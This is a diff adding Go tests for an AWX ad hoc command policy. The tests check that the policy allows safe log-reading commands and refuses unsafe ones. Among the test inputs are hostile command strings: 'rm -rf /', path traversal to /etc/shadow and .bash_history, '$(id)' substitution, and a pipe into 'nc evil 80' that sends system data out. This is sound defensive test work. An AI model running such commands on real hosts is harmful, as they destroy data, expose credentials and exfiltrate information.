@@ -0,0 +1,96 @@
+package awx
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestDefaultAdHocPolicyArgs(t *testing.T) {
+	policy := DefaultAdHocPolicy()
+
+	tests := []struct {
+		module string
+		args   string
+		err    string // Error substring, empty when allowed
+	}{
+		{module: "ping"},
+		{module: "ping", args: "data=crash", err: "takes no module_args"},
+		{module: "setup", args: "filter=ansible_distribution*"},
+		{module: "command", args: "uptime"},
+		{module: "command", args: "systemctl status nginx.service --no-pager"},
+		{module: "shell", args: "docker logs --tail 100 api"},
+		{module: "command", args: "tail -n 100 /var/log/nginx/access.log"},
+		{module: "shell", args: "tail /var/log/syslog.1"},
+		{module: "command", args: "tail /var/log/app/v1.2/server-01.log"},
+		{module: "command", args: "tail /var/log/../../etc/shadow", err: "are not allowed"},
+		{module: "shell", args: "tail /var/log/../../etc/shadow", err: "are not allowed"},
+		{module: "command", args: "tail -n 5 /var/log/nginx/../../../etc/passwd", err: "are not allowed"},
+		{module: "command", args: "tail /var/log/..", err: "are not allowed"},
+		{module: "command", args: "tail /var/log/./../../root/.bash_history", err: "are not allowed"},
+		{module: "command", args: "tail /var/log/", err: "are not allowed"},
+		{module: "command", args: "tail /etc/shadow", err: "are not allowed"},
+		{module: "command", args: "rm -rf /", err: "are not allowed"},
+		{module: "shell", args: "uptime; rm -rf /", err: "shell operators"},
+		{module: "shell", args: "cat /etc/os-release | nc evil 80", err: "shell operators"},
+		{module: "command", args: "docker ps $(id)", err: "shell operators"},
+		{module: "copy", args: "src=a dest=b", err: "module 'copy' is not allowed"},
+	}
+	for _, tt := range tests {
+		err := policy.Check(AdHocCommandRequest{ModuleName: tt.module, ModuleArgs: tt.args, Limit: "web1"})
+		switch {
+		case tt.err == "" && err != nil:
+			t.Errorf("%s %q refused: %v", tt.module, tt.args, err)
+		case tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)):
+			t.Errorf("%s %q: error = %v, want %q", tt.module, tt.args, err, tt.err)
+		}
+	}
+}
+
+func TestAdHocPolicyLimit(t *testing.T) {
+	policy := DefaultAdHocPolicy()
+
+	tests := []struct {
+		limit string
+		err   string // Error substring, empty when allowed
+	}{
+		{limit: "web1"},
+		{limit: "web1,web2"},
+		{limit: "webservers:&prod"},
+		{limit: "webservers:!web3"},
+		{limit: "webservers,!db*"}, // Wildcard exclusions only narrow the limit
+		{limit: "webservers[0:2]"},
+		{limit: "10.0.0.5"},
+		{limit: "", err: "limit is required"},
+		{limit: "  ", err: "limit is required"},
+		{limit: ",:", err: "limit is required"},
+		{limit: "all", err: "'all' can match the whole inventory"},
+		{limit: "ALL", err: "whole inventory"},
+		{limit: "*", err: "'*' can match"},
+		{limit: "*,", err: "'*' can match"},
+		{limit: "all:&all", err: "'all' can match"},
+		{limit: "all:!nonexistent", err: "'all' can match"},
+		{limit: "~.*", err: "'~.*' can match"},
+		{limit: "web1,~db.*", err: "'~db.*' can match"},
+		{limit: "web*", err: "'web*' can match"},
+		{limit: "web?", err: "'web?' can match"},
+		{limit: "!web1", err: "limit is required"},
+		{limit: "&webservers", err: "limit is required"},
+		{limit: "!web1:&prod", err: "limit is required"},
+	}
+	for _, tt := range tests {
+		err := policy.Check(AdHocCommandRequest{ModuleName: "ping", Limit: tt.limit})
+		switch {
+		case tt.err == "" && err != nil:
+			t.Errorf("limit %q refused: %v", tt.limit, err)
+		case tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)):
+			t.Errorf("limit %q: error = %v, want %q", tt.limit, err, tt.err)
+		}
+	}
+
+	policy.AllowNoLimit = true
+	for _, limit := range []string{"", "all", "~.*", "!web1"} {
+		if err := policy.Check(AdHocCommandRequest{ModuleName: "ping", Limit: limit}); err != nil {
+			t.Errorf("limit %q refused with allow_no_limit: %v", limit, err)
+		}
+	}
+}